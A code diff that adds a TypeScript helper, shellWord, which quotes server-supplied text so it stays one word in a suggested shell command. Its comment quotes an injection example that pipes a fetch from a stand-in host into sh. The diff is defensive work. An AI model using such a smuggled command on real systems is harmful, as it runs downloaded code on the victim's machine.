@@ -66,6 +66,17 @@ function codePoints(text: string, limit: number): number {
 }
 
 /**
+ * `text` as one word of a POSIX shell command svc suggests, cut to 200
+ * characters like other server text: quoted unless it is plainly one word,
+ * so that a server's id or name cannot add a command of its own
+ * (`key_1; curl evil.example | sh`) to a line a person copies.
+ */
+export function shellWord(text: string): string {
+  const flat = clip(text, 200);
+  return /^[\w.@%+=:,/-]+$/.test(flat) ? flat : `'${flat.replace(/'/g, "'\\''")}'`;
+}
+
+/**
  * Outside strings, JSON.stringify writes only ASCII, and it already escapes
  * C0 controls and lone surrogates; what remains raw can only sit inside a
  * string, where \uXXXX means the same character.
